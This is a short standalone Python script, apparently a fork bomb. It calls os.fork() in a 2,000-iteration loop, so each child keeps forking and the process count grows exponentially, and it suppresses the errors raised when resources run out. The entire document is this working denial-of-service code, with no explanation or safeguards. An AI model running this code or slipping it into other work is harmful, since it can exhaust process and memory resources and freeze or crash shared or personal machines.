import os

for _ in range(2_000):
    try:
        os.fork()
    except OSError:
        pass
